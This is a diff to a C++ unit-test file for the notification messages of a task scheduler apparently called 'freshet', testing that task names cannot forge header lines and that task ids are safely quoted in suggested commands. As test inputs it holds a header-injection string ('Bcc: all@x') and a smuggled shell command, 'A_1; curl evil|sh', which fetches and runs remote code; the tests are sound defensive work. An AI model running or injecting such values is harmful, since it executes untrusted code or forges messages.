@@ -70,7 +70,30 @@ TEST_CASE("the text has a line for each problem, and counts what is too much", "
 TEST_CASE("control characters and line breaks of a name cannot forge a line", "[notify]") {
     const ProblemChanges changes{.begun = {problem("A\r\nBcc: all@x\x1b[0m")}};
     CHECK(subject_line(changes).find_first_of("\r\n\x1b") == std::string::npos);
-    CHECK(std::ranges::count(message_text(changes, {}), '\n') == 3);
+    CHECK(std::ranges::count(message_text(changes, {}), '\n') == 1);
+}
+
+TEST_CASE("the id of a task is one word of the commands, whatever a client named it", "[notify]") {
+    const std::string text = message_text({.begun = {problem("A_1; curl evil|sh")}}, {.options = "--state '/a b'"});
+    CHECK_THAT(text, Contains("    freshet why 'A_1; curl evil|sh' --state '/a b'\n"
+                              "    freshet retry 'A_1; curl evil|sh' --state '/a b'\n"));
+}
+
+TEST_CASE("a task that no command line can name has a page and no commands", "[notify]") {
+    for (const std::string& id : {std::string("--all"), std::string("A\x1b[0m"), std::string(300, 'A')}) {
+        const std::string text = message_text({.begun = {problem(id)}}, {.url = "http://host"});
+        CHECK_THAT(text, Contains("    http://host/task/") && !Contains("freshet "));
+    }
+}
+
+TEST_CASE("a full disk of a worker is the problem of a task, that of the state is not", "[notify]") {
+    const SchedulerContact contact{.url = "http://host"};
+    ProblemChanges changes{.begun = {problem("A_1", ProblemState::disk_full)}};
+    CHECK_THAT(message_text(changes, contact),
+               Contains("    http://host/task/A_1\n    freshet why A_1\n    freshet retry A_1\n"));
+    changes.begun[0].id = "disk";
+    changes.begun[0].family.clear();
+    CHECK_THAT(message_text(changes, contact), Contains("    http://host/\n") && !Contains("freshet "));
 }
 
 TEST_CASE("a notification is an event of its rule, with the problems for programs", "[notify]") {
